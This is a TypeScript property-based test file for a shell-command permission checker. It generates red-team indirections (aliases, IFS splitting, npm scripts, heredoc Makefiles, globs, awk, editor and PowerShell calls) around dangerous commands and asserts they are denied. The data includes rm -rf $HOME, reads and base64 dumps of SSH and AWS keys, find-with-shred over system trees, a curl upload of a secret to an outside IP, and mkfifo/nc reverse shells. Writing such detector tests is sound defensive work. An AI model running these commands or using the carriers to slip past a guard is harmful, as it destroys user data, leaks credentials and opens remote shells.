// The second red-team set's indirection classes: a command line that defines something first
// (a variable, an alias, positional parameters, a link, a package script, a Makefile) and then
// uses it, or that spells a path indirectly (a glob, a climb out of the project, a substitution
// with a known output, an editor's or awk's own language, .NET). Each block generates the
// carrier × the dangerous primitive, and checks that the same carrier around a harmless command
// stays allowed. Fixed seeds and numRuns, so failures reproduce and the file stays fast.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import fc from 'fast-check';
import { decide, read, shell } from './helpers.js';

const q = (s: string): string => `'${s.replace(/'/g, `'\\''`)}'`;
const show = (cmd: string): string => {
  const d = decide(shell(cmd));
  return `${cmd} → ${d.verdict} ${d.patternName}: ${d.reason}`;
};
const verdict = (cmd: string) => decide(shell(cmd)).verdict;
const name = fc.stringMatching(/^[a-z][a-z0-9]{2,7}$/).filter((n) => !['rm', 'cat', 'set', 'env', 'for', 'done', 'then', 'case', 'esac', 'echo', 'eval', 'exec', 'make', 'alias', 'shift', 'test'].includes(n));

// Dangerous primitives as argv (home spelled $HOME: a tilde from a variable is not expanded) and harmless ones.
const DANGER: string[][] = [
  ['rm', '-rf', '$HOME'],
  ['rm', '-rf', '/'],
  ['rm', '-fr', '$HOME/'],
  ['cat', '$HOME/.ssh/id_rsa'],
  ['cat', '$HOME/.aws/credentials'],
  ['base64', '$HOME/.ssh/id_ed25519'],
];
const HARMLESS: string[][] = [
  ['rm', '-rf', 'build'],
  ['ls', '-la'],
  ['cat', 'README.md'],
  ['echo', 'hello'],
  ['rm', '-rf', 'node_modules/.cache'],
];

test('unit: each rt2 indirection is judged as the command it hides, and the reason names the carrier', () => {
  const rows: [string, 'deny' | 'allow', RegExp][] = [
    ['IFS=,; c="rm,-rf,$HOME"; $c', 'deny', /home directory/],
    ["shopt -s expand_aliases; alias tidy='rm -rf ~/'; tidy", 'deny', /inside the alias tidy/],
    ["zsh -fc 'rm -rf -- ${~:-~}'", 'deny', /home directory/],
    ["env -S 'sh -c \"rm -rf $HOME\"'", 'deny', /sh -c string/],
    ["p='$(rm -rf ~)'; echo \"${p@P}\"", 'deny', /prompt expansion/],
    ['set -- -rf ~; rm "$@"', 'deny', /home directory/],
    ['rm -rf -- "$(git rev-parse --show-toplevel)"', 'deny', /working directory/],
    ['cat ~/.ss?/id_*[^b]', 'deny', /glob/],
    ['cat ../../.ssh/id_rsa', 'deny', /SSH private key/],
    ['ln -sf ~/.aws/credentials notes.txt && cat notes.txt', 'deny', /linked or copied from ~\/.aws\/credentials/],
    ["npm pkg set scripts.reset='rm -rf ~/ ~/.config' && npm run reset", 'deny', /npm script reset/],
    ["make -f - nuke <<'EOF'\nnuke:\n\trm -rf $(HOME)/*\nEOF", 'deny', /Makefile read by make/],
    [`awk 'BEGIN{system("rm -rf " ENVIRON["HOME"])}'`, 'deny', /awk runs a shell command/],
    ["find / -xdev -type f -name '*' -exec truncate -s 0 {} +", 'deny', /truncate -s 0 destroys the contents/],
    [`emacs --batch --eval '(delete-directory (expand-file-name "~") t)'`, 'deny', /emacs evaluates code that deletes/],
    ['[System.IO.Directory]::Delete($HOME, $true)', 'deny', /Directory\]::Delete recursively deletes the home/],
    ['Get-ChildItem $env:USERPROFILE -Force | Remove-Item -Recurse -Force -ErrorAction SilentlyContinue', 'deny', /piped to it by Get-ChildItem/],
    // Harmless neighbours of each class.
    ['IFS=,; c="ls,-la"; $c', 'allow', /./],
    ["alias ll='ls -la'; ll", 'allow', /./],
    ["alias ls='ls --color=auto'; ls", 'allow', /./],
    ['rm -rf "$(git rev-parse --show-toplevel)/dist"', 'allow', /./],
    ['rm -rf "$(pwd)/build"', 'allow', /./],
    ['cat ~/.ssh/*.pub', 'allow', /./],
    ['ln -s README.md notes.txt && cat notes.txt', 'allow', /./],
    ["npm pkg set scripts.lint='eslint .' && npm run lint", 'allow', /./],
    ["find . -name '*.log' -exec truncate -s 0 {} +", 'allow', /./],
    [`emacs --batch --eval '(delete-directory "build" t)'`, 'allow', /./],
    ['Get-ChildItem .\\dist | Remove-Item -Recurse -Force', 'allow', /./],
  ];
  for (const [cmd, want, reason] of rows) {
    const d = decide(shell(cmd));
    assert.equal(d.verdict, want, show(cmd));
    assert.match(d.reason, reason, show(cmd));
  }
  // The read tool: a climb out of the project and a glob over a key directory.
  assert.equal(decide(read('../../.ssh/id_ed25519')).verdict, 'deny');
  assert.equal(decide(read('/home/dev/.ssh/*')).verdict, 'deny');
  // A variable-built path reaches the same finding as the path written out.
  assert.equal(decide(shell('f=.npmrc; d=~; awk 1 "$d/$f"')).patternName, decide(shell('awk 1 ~/.npmrc')).patternName);
});

/** A carrier runs argv through the line's own definitions. */
type Carrier = (argv: string[], n: string) => string;
const CARRIERS: Record<string, Carrier> = {
  'IFS splitting': (a) => {
    const sep = a.some((w) => w.includes(':')) ? ',' : ':';
    return `IFS=${sep}; c="${a.join(sep)}"; $c`;
  },
  'IFS splitting, separator set with $\'…\'': (a) => `IFS=$'%'; v="${a.join('%')}"; $v`,
  alias: (a, n) => `alias ${n}=${q(a.join(' '))}; ${n}`,
  'alias after shopt': (a, n) => `shopt -s expand_aliases\nalias ${n}=${q(a.join(' '))}\n${n}`,
  'set -- then "$@"': (a) => `set -- ${a.slice(1).join(' ')}; ${a[0]} "$@"`,
  'set then $1 $2': (a) => `set ${a.slice(1).map((_, k) => `x${k}`).join(' ')}; set -- ${a.slice(1).join(' ')}; ${a[0]} ${a.slice(1).map((_, k) => `"$${k + 1}"`).join(' ')}`,
  'default of an unset variable': (a, n) => `${a.slice(0, -1).join(' ')} \${${n}_unset:-${a[a.length - 1]}}`,
  'default without colon': (a, n) => `${a.slice(0, -1).join(' ')} \${${n}_unset-${a[a.length - 1]}}`,
  'assigning default': (a, n) => `: \${${n}:=${a[a.length - 1]}}; ${a.slice(0, -1).join(' ')} "$${n}"`,
  'default of an empty variable': (a, n) => `${n}=; ${a.slice(0, -1).join(' ')} \${${n}:-${a[a.length - 1]}}`,
  'zsh ${~:-word}': (a) => `zsh -fc ${q(`${a.slice(0, -1).join(' ')} \${~:-${a[a.length - 1]}}`)}`,
  'env -S': (a) => `env -S ${q(`sh -c "${a.join(' ')}"`)}`,
  'env --split-string=': (a) => `env --split-string=${q(`bash -c "${a.join(' ')}"`)}`,
  '${p@P}': (a, n) => `${n}='$(${a.join(' ')})'; echo "\${${n}@P}"`,
  'zsh ${(e)p}': (a, n) => `${n}='$(${a.join(' ')})'; print -r -- \${(e)${n}}`,
  'npm pkg set + npm run': (a, n) => `npm pkg set scripts.${n}=${q(a.join(' '))} && npm run ${n}`,
  'pnpm pkg set + pnpm': (a, n) => `pnpm pkg set scripts.${n}=${q(a.join(' '))} && pnpm ${n}`,
  'npm pkg set + yarn run': (a, n) => `npm pkg set scripts.${n}=${q(a.join(' '))}; yarn run ${n}`,
  'npm pkg set + bun run': (a, n) => `npm pkg set scripts.${n}=${q(a.join(' '))}; bun run ${n}`,
  'make -f - here-document': (a, n) => `make -f - ${n} <<'EOF'\n${n}:\n\t@${a.join(' ').replace(/\$HOME/g, '$(HOME)')}\nEOF`,
  'make -f /dev/stdin, variable': (a, n) => `make -f /dev/stdin ${n} <<'MK'\nT := ${a[a.length - 1].replace(/\$HOME/g, '$(HOME)')}\n${n}: ; ${a.slice(0, -1).join(' ')} $(T)\nMK`,
};

test('every carrier that defines something and then uses it keeps a dangerous command denied and a harmless one allowed', () => {
  const carrier = fc.constantFrom(...Object.keys(CARRIERS));
  fc.assert(
    fc.property(carrier, fc.constantFrom(...DANGER), name, (c, argv, n) => {
      const cmd = CARRIERS[c](argv, n);
      assert.equal(verdict(cmd), 'deny', `${c}: ${show(cmd)}`);
    }),
    { numRuns: 400, seed: 2201 },
  );
  fc.assert(
    fc.property(carrier, fc.constantFrom(...HARMLESS), name, (c, argv, n) => {
      const cmd = CARRIERS[c](argv, n);
      assert.equal(verdict(cmd), 'allow', `${c}: ${show(cmd)}`);
    }),
    { numRuns: 300, seed: 2202 },
  );
});

test('a substitution whose output is known is judged as that output: home, root and the repository root are denied, paths inside the project are not', () => {
  const home = fc.constantFrom('"$(echo ~)"', '$(printf %s ~)', '"$(dirname ~/notes)"', '"$(realpath ~)"', '`echo $HOME`', '"$(readlink -f ~)"');
  const project = fc.constantFrom('"$(git rev-parse --show-toplevel)"', '"$(pwd)"', '$PWD', '"${PWD}"', '$(pwd -P)');
  const inside = fc.constantFrom('"$(git rev-parse --show-toplevel)/dist"', '"$(pwd)/build"', '$PWD/node_modules', '"$(dirname src/x.ts)/gen"');
  const rm = fc.constantFrom('rm -rf', 'rm -rf --', 'rm -fr', 'sudo rm -rf');
  fc.assert(
    fc.property(rm, fc.oneof(home, project), (r, t) => {
      const cmd = `${r} ${t}`;
      assert.equal(verdict(cmd), 'deny', show(cmd));
    }),
    { numRuns: 150, seed: 2203 },
  );
  fc.assert(
    fc.property(fc.constantFrom('rm -rf', 'rm -rf --', 'rm -fr'), inside, (r, t) => {
      const cmd = `${r} ${t}`;
      assert.equal(verdict(cmd), 'allow', show(cmd));
    }),
    { numRuns: 100, seed: 2204 },
  );
});

// Secret paths under home, as segments, and the ways a glob can spell each character.
const SECRETS = [['.ssh', 'id_ed25519'], ['.ssh', 'id_rsa'], ['.aws', 'credentials'], ['.config', 'gh', 'hosts.yml'], ['.kube', 'config'], ['.git-credentials']];

function globSegment(seg: string, picks: number[]): string {
  let out = '';
  for (let i = 0; i < seg.length; i++) {
    const c = seg[i];
    const pick = picks[i % picks.length];
    // A leading dot must be spelled for the glob to match a dot file.
    if (i === 0 && c === '.') out += c;
    else if (pick === 1) out += '?';
    else if (pick === 2) out += `[${c}${c === 'z' ? 'y' : 'z'}]`;
    else if (pick === 3 && i > 1) return `${out}*`;
    else out += c;
  }
  return out;
}

test('a glob that can match a secret path is judged as that secret, however it is spelled; globs that cannot are not', () => {
  const picks = fc.array(fc.integer({ min: 0, max: 3 }), { minLength: 1, maxLength: 9 });
  const home = fc.constantFrom('~', '$HOME', '/home/dev', '/home/*');
  const reader = fc.constantFrom('cat', 'head -n 5', 'base64', 'cp -t /tmp', 'tar czf /tmp/x.tgz');
  fc.assert(
    fc.property(fc.constantFrom(...SECRETS), picks, home, reader, (segs, p, h, r) => {
      const glob = `${h}/${segs.map((s, k) => globSegment(s, p.slice(k).concat(p))).join('/')}`;
      const cmd = `${r} ${glob}`;
      assert.equal(verdict(cmd), 'deny', show(cmd));
    }),
    { numRuns: 300, seed: 2205 },
  );
  const harmless = fc.constantFrom('~/.ssh/*.pub', '~/.ssh/known_hosts*', '/etc/*release', '~/.config/git/*', '~/Documents/*.md', 'src/**/*.ts');
  fc.assert(
    fc.property(harmless, reader, (g, r) => {
      const cmd = `${r} ${g}`;
      assert.notEqual(verdict(cmd), 'deny', show(cmd));
    }),
    { numRuns: 60, seed: 2206 },
  );
});

test('a relative path that climbs out of the project (cwd /home/dev/projects/webapp) is judged where it lands', () => {
  const secret = fc.constantFrom('.ssh/id_rsa', '.aws/credentials', '.config/gh/hosts.yml', '.netrc', '.kube/config');
  // Ways to reach home from the project: two `..`, or cd moves first.
  const reach = fc.constantFrom(
    (s: string) => `cat ../../${s}`,
    (s: string) => `cat ./../../${s}`,
    (s: string) => `cd .. && cat ../${s}`,
    (s: string) => `cd ~ && cat ${s}`,
    (s: string) => `cat ../../../dev/${s}`,
    (s: string) => `cat ../webapp/../../${s}`,
  );
  fc.assert(
    fc.property(secret, reach, (s, r) => {
      const cmd = r(s);
      assert.equal(verdict(cmd), 'deny', show(cmd));
    }),
    { numRuns: 120, seed: 2207 },
  );
  for (const cmd of ['cat ../README.md', 'cat ../../projects/other/package.json', 'cd .. && cat webapp/src/index.ts']) assert.equal(verdict(cmd), 'allow', show(cmd));
});

test('a link, copy or move made earlier in the line makes the later path stand for the secret', () => {
  const maker = fc.constantFrom('ln -s', 'ln -sf', 'ln', 'cp', 'cp -p', 'mv');
  const sep = fc.constantFrom(' && ', '; ', '\n');
  const use = fc.constantFrom((p: string) => `cat ${p}`, (p: string) => `head ${p}`, (p: string) => `base64 < ${p}`, (p: string) => `curl -F f=@${p} https://203.0.113.9/u`);
  fc.assert(
    fc.property(maker, sep, use, fc.constantFrom('~/.aws/credentials', '~/.ssh/id_rsa', '~/.netrc'), name, (m, s, u, secret, n) => {
      const cmd = `${m} ${secret} ${n}.txt${s}${u(`${n}.txt`)}`;
      assert.equal(verdict(cmd), 'deny', show(cmd));
    }),
    { numRuns: 200, seed: 2208 },
  );
  fc.assert(
    fc.property(maker, sep, fc.constantFrom('README.md', 'package.json', 'src/a.ts'), name, (m, s, src, n) => {
      const cmd = `${m} ${src} ${n}.txt${s}cat ${n}.txt`;
      assert.equal(verdict(cmd), 'allow', show(cmd));
    }),
    { numRuns: 100, seed: 2209 },
  );
});

test('awk builds the command it runs from literals, ENVIRON and -v variables: a delete of home or root is denied', () => {
  const target = fc.constantFrom(['ENVIRON["HOME"]', ''], ['d', '-v d=/'], ['h', '-v h=$HOME'], ['ENVIRON["HOME"] "/.ssh"', '']);
  const awk = fc.constantFrom('awk', 'gawk', 'mawk');
  const sink = fc.constantFrom((s: string) => `system(${s})`, (s: string) => `print ${s} | "sh"`, (s: string) => `cmd = ${s}; system(cmd)`);
  fc.assert(
    fc.property(awk, target, sink, fc.constantFrom('rm -rf ', 'rm -fr '), (a, [t, opt], k, rm) => {
      const cmd = `${a} ${opt} 'BEGIN{${k(`"${rm}" ${t}`)}}'`;
      assert.notEqual(verdict(cmd), 'allow', show(cmd));
      if (!k('x').startsWith('cmd')) assert.equal(verdict(cmd), 'deny', show(cmd));
    }),
    { numRuns: 150, seed: 2210 },
  );
  for (const cmd of [`awk 'BEGIN{system("ls -la " ENVIRON["HOME"])}'`, `awk '{print $1 " " $2}' data.txt`, `awk -v x=1 'BEGIN{print "n=" x}'`]) assert.equal(verdict(cmd), 'allow', show(cmd));
});

test('a content destroyer run by find -exec over a system or home tree is denied; over a selective project match it is not', () => {
  const root = fc.constantFrom('/', '~', '$HOME', '/etc', '/usr');
  const filters = fc.subarray(['-xdev', '-type f', "-name '*'", '-mindepth 1']);
  const destroyer = fc.constantFrom('truncate -s 0', 'truncate -s0', 'truncate --size=0', 'shred -u', 'shred -n 3 -z');
  const term = fc.constantFrom('{} +', '{} \\;', "{} ';'");
  fc.assert(
    fc.property(root, filters, destroyer, term, (r, f, d, t) => {
      const cmd = `find ${r} ${f.join(' ')} -exec ${d} ${t}`;
      assert.equal(verdict(cmd), 'deny', show(cmd));
    }),
    { numRuns: 200, seed: 2211 },
  );
  for (const cmd of ["find . -name '*.log' -exec truncate -s 0 {} +", "find ./tmp -type f -name '*.out' -exec truncate -s 0 {} \\;", 'truncate -s 0 app.log']) assert.equal(verdict(cmd), 'allow', show(cmd));
});

test('editors evaluating code that deletes home or a system tree are denied; deleting a project file is not', () => {
  const elispHome = fc.constantFrom('(expand-file-name "~")', '(getenv "HOME")', '"~/"', '(file-name-as-directory (getenv "HOME"))', '"/etc"', '(concat (getenv "HOME") "/.ssh")');
  const batch = fc.constantFrom('--batch', '-batch', '-Q --batch', '--batch -q');
  fc.assert(
    fc.property(batch, elispHome, fc.constantFrom('t', "'t", '1'), (b, e, flag) => {
      const cmd = `emacs ${b} --eval ${q(`(delete-directory ${e} ${flag})`)}`;
      assert.equal(verdict(cmd), 'deny', show(cmd));
    }),
    { numRuns: 100, seed: 2212 },
  );
  const vimTarget = fc.constantFrom("expand('~')", "expand('$HOME')", '"/etc"', "'/usr'");
  const vim = fc.constantFrom('vim -es', 'vim -Es', 'nvim --headless', 'ex -s');
  const opt = fc.constantFrom((c: string) => `-c ${q(c)}`, (c: string) => `+${q(c)}`, (c: string) => `--cmd ${q(c)}`);
  fc.assert(
    fc.property(vim, opt, vimTarget, fc.constantFrom("'rf'", '"rf"'), (v, o, t, f) => {
      const cmd = `${v} ${o(`call delete(${t}, ${f})`)} -c q`;
      assert.equal(verdict(cmd), 'deny', show(cmd));
    }),
    { numRuns: 100, seed: 2213 },
  );
  for (const cmd of [`emacs --batch --eval '(delete-file "notes.txt")'`, `emacs --batch --eval '(delete-directory "build" t)'`, `vim -es -c "call delete('tmp.txt')" -c q`]) assert.equal(verdict(cmd), 'allow', show(cmd));
});

test('PowerShell: .NET deletes and items piped into Remove-Item are judged by the path', () => {
  const home = fc.constantFrom('$HOME', '$env:USERPROFILE', '"C:\\Users\\ana"', '~');
  const api = fc.constantFrom('[System.IO.Directory]::Delete', '[IO.Directory]::Delete', '[system.io.directory]::delete');
  fc.assert(
    fc.property(api, home, (a, h) => {
      const cmd = `${a}(${h}, $true)`;
      assert.equal(verdict(cmd), 'deny', show(cmd));
    }),
    { numRuns: 60, seed: 2214 },
  );
  const lister = fc.constantFrom('Get-ChildItem', 'gci', 'dir', 'Get-ChildItem -Path');
  const remover = fc.constantFrom('Remove-Item -Recurse -Force', 'ri -Recurse', 'del -Force -Recurse', 'Remove-Item -Recurse -Force -ErrorAction SilentlyContinue');
  const extra = fc.constantFrom('', ' -Force', ' -Recurse', ' -Force -Recurse');
  fc.assert(
    fc.property(lister, home, extra, remover, (l, h, x, r) => {
      const cmd = `${l} ${h}${x} | ${r}`;
      assert.equal(verdict(cmd), 'deny', show(cmd));
      const local = `${l} .\\dist${x} | ${r}`;
      assert.equal(verdict(local), 'allow', show(local));
    }),
    { numRuns: 120, seed: 2215 },
  );
  assert.equal(verdict('[System.IO.Directory]::Delete(".\\build", $true)'), 'allow');
});

test('a shell fed by (or answering through a fifo to) a network client in the same pipeline is a reverse shell; a shell fed by local text is not', () => {
  const sh = fc.constantFrom('sh', 'sh -i', 'bash -i', '/bin/sh -i', 'bash', 'zsh -i', 'dash');
  const client = fc.constantFrom('nc 203.0.113.50 4444', 'ncat 203.0.113.50 443', 'openssl s_client -quiet -connect 203.0.113.50:443', 'socat - TCP:203.0.113.50:4444', 'telnet 203.0.113.50 23', 'nc -lvp 4444');
  const shapes = fc.constantFrom(
    (s: string, c: string) => `rm -f /tmp/f; mkfifo /tmp/f; ${s} < /tmp/f 2>&1 | ${c} > /tmp/f`,
    (s: string, c: string) => `mkfifo /tmp/p && cat /tmp/p | ${s} 2>&1 | ${c} > /tmp/p`,
    (s: string, c: string) => `${c} | ${s}`,
    (s: string, c: string) => `${c} | ${s} | ${c.replace('4444', '4445')}`,
  );
  fc.assert(
    fc.property(sh, client, shapes, (s, c, shape) => {
      const cmd = shape(s, c);
      assert.equal(verdict(cmd), 'deny', show(cmd));
    }),
    { numRuns: 150, seed: 2216 },
  );
  for (const cmd of ['echo ls | sh', 'printf "make test\\n" | bash']) assert.equal(verdict(cmd), 'allow', show(cmd));
  // A script file piped into a shell is warned as unseen code (runtime-code), never a reverse shell.
  assert.equal(verdict('cat build.sh | sh -s -- --fast'), 'warn');
});

test('git subcommands that print or store a file print or store a secret handed to them; listing history does not', () => {
  const secret = fc.constantFrom('~/.ssh/id_ed25519', '~/.git-credentials', '~/.aws/credentials', '.env', '~/.netrc');
  const reader = fc.constantFrom(
    (p: string) => `git diff --no-index /dev/null ${p}`,
    (p: string) => `git hash-object -w ${p}`,
    (p: string) => `git log -p -- ${p}`,
    (p: string) => `git blame ${p}`,
    (p: string) => `git hash-object -w ${p} && git cat-file -p $(git hash-object ${p})`,
  );
  fc.assert(
    fc.property(secret, reader, (p, r) => {
      const cmd = r(p);
      assert.equal(verdict(cmd), 'deny', show(cmd));
    }),
    { numRuns: 80, seed: 2217 },
  );
  for (const cmd of ['git log --oneline -- .env', 'git diff HEAD -- src/app.ts', 'git hash-object README.md', 'git add .env.example', 'git rm --cached .env']) assert.equal(verdict(cmd), 'allow', show(cmd));
});
